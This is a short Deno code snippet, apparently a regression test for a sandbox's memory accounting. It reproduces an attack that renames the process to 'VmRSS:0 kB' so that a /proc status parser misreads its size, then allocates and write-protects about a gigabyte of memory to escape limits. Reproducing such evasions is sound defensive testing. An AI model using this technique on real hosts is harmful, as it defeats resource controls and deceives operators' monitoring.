// Tries: memory that is made read-only, so that no limit counts it, by a process whose name is a line of its own status:
// who looks there for its size finds the name first.
// Origin: an attack on this host, which once believed it.

const libc = Deno.dlopen("libc.so.6", { memset: { parameters: ["usize", "i32", "usize"], result: "usize" } });
const file = `/proc/self/task/${native.call("getpid")}/comm`;
native.call("prctl", 15, "VmRSS:0 kB", 0, 0, 0);
try {
  Deno.writeTextFileSync(file, "VmRSS:0 kB");
} catch { /* this thread is the first, then */ }
const step = 64 << 20;
let made = 0;
while (made < 2 ** 30) {
  const where = native.call("mmap", 0, step, 3, 0x22, -1, 0);
  if (where < 0) break;
  libc.symbols.memset(BigInt(where), 1, BigInt(step));
  native.call("mprotect", where, step, 1);
  made += step;
}
return made;
